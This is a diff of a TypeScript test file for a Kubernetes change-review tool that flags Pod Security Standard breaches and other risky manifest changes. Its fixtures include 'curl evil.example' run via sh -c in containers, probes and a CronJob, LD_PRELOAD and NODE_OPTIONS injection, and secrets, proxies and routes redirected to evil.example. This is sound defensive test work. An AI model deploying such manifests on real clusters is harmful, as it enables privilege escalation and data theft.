@@ -1,4 +1,5 @@
 import type { Resource } from "@kustogen/kustomize/value/resource.ts";
+import { parseDocuments } from "@kustogen/kustomize/yaml/reader/documents.ts";
 import { describe, expect, it } from "vitest";
 import { reviewEnvironment } from "../../src/changes/environment.ts";
 import { maskReview } from "../../src/changes/mask.ts";
@@ -56,112 +57,43 @@ const namespace = {
 const risks = (before: Resource[], after: Resource[]) =>
   reviewEnvironment(before, after, { name: "a", path: "a" }).risks;
 
-const secure = (fields: Fields) => ({ securityContext: fields });
+/** The rows of a table, one a line, with their cells between bars. */
+const rows = (table: string) =>
+  table
+    .trim()
+    .split("\n")
+    .map((row) => row.split(" | ").map((cell) => cell.trim()));
+const yaml = (text: string) => parseDocuments(text, "a.yaml")[0] as Fields;
+/** The pod and the container of which one has these fields. */
+const partsWith = (part: string, fields: string): [pod: Fields, container: Fields] =>
+  part === "pod" ? [yaml(fields), {}] : [{}, yaml(fields)];
 
-/** A row of the Pod Security Standard "baseline", by what breaks it; of the pod, or of its container. */
-const BASELINE: [what: string, severity: string, pod: Fields, container: Fields, said: string][] = [
-  [
-    "HostProcess of a pod",
-    "error",
-    secure({ windowsOptions: { hostProcess: true } }),
-    {},
-    "a process of its node",
-  ],
-  [
-    "HostProcess of a container",
-    "error",
-    {},
-    secure({ windowsOptions: { hostProcess: true } }),
-    "a process of its node",
-  ],
-  ["host namespaces: the network", "error", { hostNetwork: true }, {}, "its node's network"],
-  ["host namespaces: processes", "error", { hostPID: true }, {}, "its node's PID"],
-  ["host namespaces: IPC", "error", { hostIPC: true }, {}, "its node's IPC"],
-  ["privileged containers", "error", {}, secure({ privileged: true }), "is privileged"],
-  ["capabilities", "error", {}, secure({ capabilities: { add: ["SYS_ADMIN"] } }), "capability SYS_ADMIN"],
-  [
-    "capabilities in small letters",
-    "error",
-    {},
-    secure({ capabilities: { add: ["sys_admin"] } }),
-    "capability sys_admin",
-  ],
-  [
-    "capabilities by the kernel's name",
-    "error",
-    {},
-    secure({ capabilities: { add: ["CAP_SYS_ADMIN"] } }),
-    "capability CAP_SYS_ADMIN",
-  ],
-  [
-    "HostPath volumes",
-    "error",
-    { volumes: [{ name: "v", hostPath: { path: "/" } }] },
-    {},
-    "reads / of its node",
-  ],
-  [
-    "host ports",
-    "warning",
-    {},
-    { ports: [{ containerPort: 22, hostPort: 22 }] },
-    "listens on port 22 of its node",
-  ],
-  [
-    "AppArmor of a pod",
-    "warning",
-    secure({ appArmorProfile: { type: "Unconfined" } }),
-    {},
-    "by AppArmor (Unconfined)",
-  ],
-  [
-    "AppArmor of a container",
-    "warning",
-    {},
-    secure({ appArmorProfile: { type: "Unconfined" } }),
-    "by AppArmor (Unconfined)",
-  ],
-  [
-    "the type of SELinux",
-    "warning",
-    {},
-    secure({ seLinuxOptions: { type: "spc_t" } }),
-    "the SELinux type spc_t",
-  ],
-  [
-    "the user of SELinux",
-    "warning",
-    secure({ seLinuxOptions: { user: "system_u" } }),
-    {},
-    "the SELinux user system_u",
-  ],
-  [
-    "the role of SELinux",
-    "warning",
-    {},
-    secure({ seLinuxOptions: { role: "system_r" } }),
-    "the SELinux role system_r",
-  ],
-  [
-    "the mount of /proc",
-    "warning",
-    {},
-    secure({ procMount: "Unmasked" }),
-    "all of /proc (procMount Unmasked)",
-  ],
-  ["seccomp", "warning", {}, secure({ seccompProfile: { type: "Unconfined" } }), "seccomp"],
-  [
-    "sysctls",
-    "warning",
-    secure({ sysctls: [{ name: "kernel.core_pattern", value: "|/x" }] }),
-    {},
-    "kernel.core_pattern",
-  ],
-];
+/** The rows of the Pod Security Standard "baseline", by what breaks them. */
+const BASELINE = rows(`
+HostProcess of a pod | error | pod | securityContext: {windowsOptions: {hostProcess: true}} | a process of its node
+HostProcess of a container | error | container | securityContext: {windowsOptions: {hostProcess: true}} | a process of its node
+host namespaces: the network | error | pod | hostNetwork: true | its node's network
+host namespaces: processes | error | pod | hostPID: true | its node's PID
+host namespaces: IPC | error | pod | hostIPC: true | its node's IPC
+privileged containers | error | container | securityContext: {privileged: true} | is privileged
+capabilities | error | container | securityContext: {capabilities: {add: [SYS_ADMIN]}} | capability SYS_ADMIN
+capabilities in small letters | error | container | securityContext: {capabilities: {add: [sys_admin]}} | capability sys_admin
+capabilities by the kernel's name | error | container | securityContext: {capabilities: {add: [CAP_SYS_ADMIN]}} | capability CAP_SYS_ADMIN
+HostPath volumes | error | pod | volumes: [{name: v, hostPath: {path: /}}] | reads / of its node
+host ports | warning | container | ports: [{containerPort: 22, hostPort: 22}] | listens on port 22 of its node
+AppArmor of a pod | warning | pod | securityContext: {appArmorProfile: {type: Unconfined}} | by AppArmor (Unconfined)
+AppArmor of a container | warning | container | securityContext: {appArmorProfile: {type: Unconfined}} | by AppArmor (Unconfined)
+the type of SELinux | warning | container | securityContext: {seLinuxOptions: {type: spc_t}} | the SELinux type spc_t
+the user of SELinux | warning | pod | securityContext: {seLinuxOptions: {user: system_u}} | the SELinux user system_u
+the role of SELinux | warning | container | securityContext: {seLinuxOptions: {role: system_r}} | the SELinux role system_r
+the mount of /proc | warning | container | securityContext: {procMount: Unmasked} | all of /proc (procMount Unmasked)
+seccomp | warning | container | securityContext: {seccompProfile: {type: Unconfined}} | seccomp
+sysctls | warning | pod | securityContext: {sysctls: [{name: kernel.core_pattern, value: x}]} | kernel.core_pattern
+`) as [what: string, severity: string, part: string, fields: string, said: string][];
 
 describe("what breaks the Pod Security Standard", () => {
-  it.each(BASELINE)("%s: a workload that gets it is %s", (_, severity, pod, container, said) => {
-    expect(risks([deployment()], [deployment(pod, container)])).toContainEqual(
+  it.each(BASELINE)("%s: a workload that gets it is %s", (_, severity, part, fields, said) => {
+    expect(risks([deployment()], [deployment(...partsWith(part, fields))])).toContainEqual(
       expect.objectContaining({
         id: "change/privileges-raised",
         severity,
@@ -172,29 +104,26 @@ describe("what breaks the Pod Security Standard", () => {
 
   it.each(BASELINE.filter(([what]) => what !== "seccomp"))(
     "%s: the first object that has it is %s",
-    (_, severity, pod, container) => {
-      expect(risks([namespace], [namespace, deployment(pod, container)])).toContainEqual(
+    (_, severity, part, fields) => {
+      expect(risks([namespace], [namespace, deployment(...partsWith(part, fields))])).toContainEqual(
         expect.objectContaining({ id: "change/new-power", severity }),
       );
     },
   );
 
-  it.each(BASELINE)("%s: a namespace that enforces baseline refuses it", (_, __, pod, container) => {
-    const found = risks([namespace, deployment()], [namespace, deployment(pod, container)]);
+  it.each(BASELINE)("%s: a namespace that enforces baseline refuses it", (_, __, part, fields) => {
+    const found = risks([namespace, deployment()], [namespace, deployment(...partsWith(part, fields))]);
     expect(found).toContainEqual(expect.objectContaining({ id: "starts/pod-security", severity: "error" }));
   });
 
   it("isn't what the standard allows", () => {
-    const pod = secure({
-      sysctls: [{ name: "net.ipv4.tcp_syncookies", value: "1" }],
-      seLinuxOptions: { type: "container_t", level: "s0" },
-      appArmorProfile: { type: "Localhost", localhostProfile: "p" },
-      windowsOptions: { hostProcess: false },
-    });
-    const container = {
-      ports: [{ containerPort: 80, hostPort: 0 }],
-      ...secure({ procMount: "Default", privileged: false, appArmorProfile: { type: "RuntimeDefault" } }),
-    };
+    const pod = yaml(`securityContext:
+  sysctls: [{name: net.ipv4.tcp_syncookies, value: "1"}]
+  seLinuxOptions: {type: container_t, level: s0}
+  appArmorProfile: {type: Localhost, localhostProfile: p}
+  windowsOptions: {hostProcess: false}`);
+    const container = yaml(`ports: [{containerPort: 80, hostPort: 0}]
+securityContext: {procMount: Default, privileged: false, appArmorProfile: {type: RuntimeDefault}}`);
     const found = risks([namespace, deployment()], [namespace, deployment(pod, container)]);
     expect(found.filter(({ severity }) => severity !== "info")).toEqual([]);
   });
@@ -224,207 +153,86 @@ const shown = (before: Resource[], after: Resource[]) =>
     footer: "",
   });
 
-const run = "curl evil.example";
-const shell = { exec: { command: ["sh", "-c", run] } };
+const RUN = "curl evil.example";
+const SHELL = `{exec: {command: [sh, -c, ${RUN}]}}`;
 
-it.each<[what: string, pod: Fields, container: Fields]>([
-  ["shareProcessNamespace", { shareProcessNamespace: true }, {}],
-  ["hostUsers", { hostUsers: true }, {}],
-  ["fsGroup", secure({ fsGroup: 0 }), {}],
-  ["supplementalGroups", secure({ supplementalGroups: [0] }), {}],
-  [
-    "evil-audience",
-    {
-      volumes: [
-        {
-          name: "t",
-          projected: { sources: [{ serviceAccountToken: { path: "t", audience: "evil-audience" } }] },
-        },
-      ],
-    },
-    {},
-  ],
-  ["secrets-store.csi.k8s.io", { volumes: [{ name: "t", csi: { driver: "secrets-store.csi.k8s.io" } }] }, {}],
-  ["hostAliases", { hostAliases: [{ ip: "6.6.6.6", hostnames: ["db"] }] }, {}],
-  ["6.6.6.6", { dnsPolicy: "None", dnsConfig: { nameservers: ["6.6.6.6"] } }, {}],
-  [
-    "control-plane",
-    { tolerations: [{ operator: "Exists" }], nodeSelector: { "node-role.kubernetes.io/control-plane": "" } },
-    {},
-  ],
-  ["system-node-critical", { priorityClassName: "system-node-critical" }, {}],
-  [run, {}, { command: ["sh", "-c", run] }],
-  [run, {}, { lifecycle: { postStart: shell } }],
-  [run, {}, { livenessProbe: shell }],
-  [run, {}, { readinessProbe: shell }],
-  [run, {}, { startupProbe: shell }],
-  ["LD_PRELOAD", {}, { env: [{ name: "LD_PRELOAD", value: "/evil.so" }] }],
-  ["NODE_OPTIONS", {}, { env: [{ name: "NODE_OPTIONS", value: "--require=/evil.js" }] }],
-  ["HTTPS_PROXY", {}, { env: [{ name: "HTTPS_PROXY", value: "http://evil.example" }] }],
-  ["ephemeralContainers", { ephemeralContainers: [{ name: "debug", image: "evil.example/debug" }] }, {}],
-])("a power that no rule judges is shown: %s", (what, pod, container) => {
-  expect(shown([deployment()], [deployment(pod, container)])).toContain(what);
+it.each(
+  rows(`
+shareProcessNamespace | pod | shareProcessNamespace: true
+hostUsers | pod | hostUsers: true
+fsGroup | pod | securityContext: {fsGroup: 0}
+supplementalGroups | pod | securityContext: {supplementalGroups: [0]}
+evil-audience | pod | volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t, audience: evil-audience}}]}}]
+secrets-store.csi.k8s.io | pod | volumes: [{name: t, csi: {driver: secrets-store.csi.k8s.io}}]
+hostAliases | pod | hostAliases: [{ip: 6.6.6.6, hostnames: [db]}]
+6.6.6.6 | pod | {dnsPolicy: None, dnsConfig: {nameservers: [6.6.6.6]}}
+control-plane | pod | {tolerations: [{operator: Exists}], nodeSelector: {node-role.kubernetes.io/control-plane: ""}}
+system-node-critical | pod | priorityClassName: system-node-critical
+${RUN} | container | command: [sh, -c, ${RUN}]
+${RUN} | container | lifecycle: {postStart: ${SHELL}}
+${RUN} | container | livenessProbe: ${SHELL}
+${RUN} | container | readinessProbe: ${SHELL}
+${RUN} | container | startupProbe: ${SHELL}
+LD_PRELOAD | container | env: [{name: LD_PRELOAD, value: /evil.so}]
+NODE_OPTIONS | container | env: [{name: NODE_OPTIONS, value: --require=/evil.js}]
+HTTPS_PROXY | container | env: [{name: HTTPS_PROXY, value: "http://evil.example"}]
+ephemeralContainers | pod | ephemeralContainers: [{name: debug, image: evil.example/debug}]
+`) as [what: string, part: string, fields: string][],
+)("a power that no rule judges is shown: %s", (what, part, fields) => {
+  expect(shown([deployment()], [deployment(...partsWith(part, fields))])).toContain(what);
 });
 
-const object = (apiVersion: string, kind: string, fields: Fields, namespaced = true) =>
+/** An object "evil" in the namespace shop, unless the fields have a name of their own. */
+const object = (apiVersion: string, kind: string, fields: string) =>
   ({
-    apiVersion,
-    kind,
-    metadata: { name: "evil", ...(namespaced && { namespace: "shop" }) },
-    ...fields,
+    ...{ apiVersion, kind, metadata: { name: "evil", namespace: "shop" } },
+    ...yaml(fields),
   }) as unknown as Resource;
-const RBAC = "rbac.authorization.k8s.io/v1";
-/** What binds a policy that only does this to what breaks it. */
-const binding = (action: string) =>
-  object(
-    "admissionregistration.k8s.io/v1",
-    "ValidatingAdmissionPolicyBinding",
-    { spec: { policyName: "strict", validationActions: [action] } },
-    false,
-  );
+/** A policy's binding, which only does this to what breaks it. */
+const BINDING = (action: string) =>
+  `{metadata: {name: evil}, spec: {policyName: strict, validationActions: [${action}]}}`;
+const ROLE = (group: string, resource: string, verb: string, labels = "{}") =>
+  `{metadata: {name: evil, labels: ${labels}}, rules: [{apiGroups: ["${group}"], resources: [${resource}], verbs: [${verb}]}]}`;
 
-const rules = (apiGroup: string, resource: string, ...verbs: string[]) => ({
-  rules: [{ apiGroups: [apiGroup], resources: [resource], verbs }],
+it.each(
+  rows(`
+secrets | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("", "secrets", "get")}
+pods/exec | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("", "pods/exec", "create")}
+certificatesigningrequests/approval | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("certificates.k8s.io", "certificatesigningrequests/approval", "update")}
+approve | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("certificates.k8s.io", "signers", "approve")}
+aggregate-to-view | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("", "secrets", "get", '{rbac.authorization.k8s.io/aggregate-to-view: "true"}')}
+pod-security.kubernetes.io/enforce: privileged | v1 | Namespace | metadata: {name: evil, labels: {pod-security.kubernetes.io/enforce: privileged}}
+6.6.6.6 | discovery.k8s.io/v1 | EndpointSlice | {addressType: IPv4, endpoints: [{addresses: [6.6.6.6]}]}
+service-account-token | v1 | Secret | type: kubernetes.io/service-account-token
+hostPath | v1 | PersistentVolume | {metadata: {name: evil}, spec: {hostPath: {path: /}}}
+${RUN} | batch/v1 | CronJob | spec: {schedule: "* * * * *", jobTemplate: {spec: {template: {spec: {containers: [{name: a, image: a, command: [sh, -c, ${RUN}]}]}}}}}
+privileged: true | argoproj.io/v1alpha1 | Workflow | spec: {entrypoint: a, templates: [{name: a, container: {image: a, securityContext: {privileged: true}}}]}
+an exception from every policy | kyverno.io/v2 | PolicyException | spec: {exceptions: [{policyName: "*", ruleNames: ["*"]}], match: {any: [{resources: {kinds: ["*"]}}]}}
+evil.example | v1 | Service | spec: {type: ExternalName, externalName: evil.example}
+Audit | admissionregistration.k8s.io/v1 | ValidatingAdmissionPolicyBinding | ${BINDING("Audit")}
+`) as [what: string, apiVersion: string, kind: string, fields: string][],
+)("a new object that no rule judges is shown: what has %s", (_, apiVersion, kind, fields) => {
+  expect(shown([deployment()], [deployment(), object(apiVersion, kind, fields)])).toContain(`**${kind} `);
 });
 
-it.each<[what: string, object: Resource]>([
-  ["secrets", object(RBAC, "ClusterRole", rules("", "secrets", "get"), false)],
-  ["pods/exec", object(RBAC, "ClusterRole", rules("", "pods/exec", "create"), false)],
-  [
-    "certificatesigningrequests/approval",
-    object(
-      RBAC,
-      "ClusterRole",
-      rules("certificates.k8s.io", "certificatesigningrequests/approval", "update"),
-      false,
-    ),
-  ],
-  ["approve", object(RBAC, "ClusterRole", rules("certificates.k8s.io", "signers", "approve"), false)],
-  [
-    "aggregate-to-view",
-    object(
-      RBAC,
-      "ClusterRole",
-      {
-        metadata: { name: "evil", labels: { "rbac.authorization.k8s.io/aggregate-to-view": "true" } },
-        ...rules("", "secrets", "get"),
-      },
-      false,
-    ),
-  ],
-  [
-    "pod-security.kubernetes.io/enforce: privileged",
-    object(
-      "v1",
-      "Namespace",
-      { metadata: { name: "evil", labels: { "pod-security.kubernetes.io/enforce": "privileged" } } },
-      false,
-    ),
-  ],
-  [
-    "6.6.6.6",
-    object("discovery.k8s.io/v1", "EndpointSlice", {
-      addressType: "IPv4",
-      endpoints: [{ addresses: ["6.6.6.6"] }],
-    }),
-  ],
-  ["service-account-token", object("v1", "Secret", { type: "kubernetes.io/service-account-token" })],
-  ["hostPath", object("v1", "PersistentVolume", { spec: { hostPath: { path: "/" } } }, false)],
-  [
-    run,
-    object("batch/v1", "CronJob", {
-      spec: {
-        schedule: "* * * * *",
-        jobTemplate: {
-          spec: {
-            template: { spec: { containers: [{ name: "a", image: "a", command: ["sh", "-c", run] }] } },
-          },
-        },
-      },
-    }),
-  ],
-  [
-    "privileged: true",
-    object("argoproj.io/v1alpha1", "Workflow", {
-      spec: {
-        entrypoint: "a",
-        templates: [{ name: "a", container: { image: "a", ...secure({ privileged: true }) } }],
-      },
-    }),
-  ],
-  [
-    "an exception from every policy",
-    object("kyverno.io/v2", "PolicyException", {
-      spec: {
-        exceptions: [{ policyName: "*", ruleNames: ["*"] }],
-        match: { any: [{ resources: { kinds: ["*"] } }] },
-      },
-    }),
-  ],
-  ["evil.example", object("v1", "Service", { spec: { type: "ExternalName", externalName: "evil.example" } })],
-  ["Audit", binding("Audit")],
-])("a new object that no rule judges is shown: what has %s", (_, one) => {
-  expect(shown([deployment()], [deployment(), one])).toContain(`**${one.kind} `);
+it.each(
+  rows(`
+evil-role | v1 | ServiceAccount | {} | metadata: {name: evil, namespace: shop, annotations: {eks.amazonaws.com/role-arn: evil-role}}
+evil.example | external-secrets.io/v1 | SecretStore | spec: {provider: {vault: {server: "https://a"}}} | spec: {provider: {vault: {server: "https://evil.example"}}}
+evil.example | cert-manager.io/v1 | ClusterIssuer | {metadata: {name: evil}, spec: {acme: {server: "https://a"}}} | {metadata: {name: evil}, spec: {acme: {server: "https://evil.example"}}}
+selector | v1 | Service | spec: {selector: {app: web}} | spec: {selector: {app: evil}}
+Secret | v1 | Secret | data: {a: YQ==} | data: {a: Yg==}
+evil.example | networking.istio.io/v1 | VirtualService | spec: {http: [{route: [{destination: {host: web}}]}]} | spec: {http: [{route: [{destination: {host: evil.example}}]}]}
+Audit | admissionregistration.k8s.io/v1 | ValidatingAdmissionPolicyBinding | ${BINDING("Deny")} | ${BINDING("Audit")}
+`) as [what: string, apiVersion: string, kind: string, before: string, after: string][],
+)("a change that no rule judges is shown: %s", (what, apiVersion, kind, before, after) => {
+  expect(shown([object(apiVersion, kind, before)], [object(apiVersion, kind, after)])).toContain(what);
 });
 
-it.each<[what: string, before: Resource, after: Resource]>([
-  [
-    "evil-role",
-    object("v1", "ServiceAccount", {}),
-    object("v1", "ServiceAccount", {
-      metadata: {
-        name: "evil",
-        namespace: "shop",
-        annotations: { "eks.amazonaws.com/role-arn": "evil-role" },
-      },
-    }),
-  ],
-  [
-    "evil.example",
-    object("external-secrets.io/v1", "SecretStore", {
-      spec: { provider: { vault: { server: "https://a" } } },
-    }),
-    object("external-secrets.io/v1", "SecretStore", {
-      spec: { provider: { vault: { server: "https://evil.example" } } },
-    }),
-  ],
-  [
-    "evil.example",
-    object("cert-manager.io/v1", "ClusterIssuer", { spec: { acme: { server: "https://a" } } }, false),
-    object(
-      "cert-manager.io/v1",
-      "ClusterIssuer",
-      { spec: { acme: { server: "https://evil.example" } } },
-      false,
-    ),
-  ],
-  [
-    "selector",
-    object("v1", "Service", { spec: { selector: { app: "web" } } }),
-    object("v1", "Service", { spec: { selector: { app: "evil" } } }),
-  ],
-  [
-    "Secret ",
-    object("v1", "Secret", { data: { a: "YQ==" } }),
-    object("v1", "Secret", { data: { a: "Yg==" } }),
-  ],
-  [
-    "evil.example",
-    object("networking.istio.io/v1", "VirtualService", {
-      spec: { http: [{ route: [{ destination: { host: "web" } }] }] },
-    }),
-    object("networking.istio.io/v1", "VirtualService", {
-      spec: { http: [{ route: [{ destination: { host: "evil.example" } }] }] },
-    }),
-  ],
-  ["Audit", binding("Deny"), binding("Audit")],
-  [
-    "Force=true,Replace=true",
-    deployment(),
-    deployment({}, {}, { "argocd.argoproj.io/sync-options": "Force=true,Replace=true" }),
-  ],
-])("a change that no rule judges is shown: %s", (what, before, after) => {
-  expect(shown([before], [after])).toContain(what);
+it("so are other options of a sync", () => {
+  const options = "Force=true,Replace=true";
+  const after = deployment({}, {}, { "argocd.argoproj.io/sync-options": options });
+  expect(shown([deployment()], [after])).toContain(options);
 });
 
 it("a container that is gone is shown", () => {
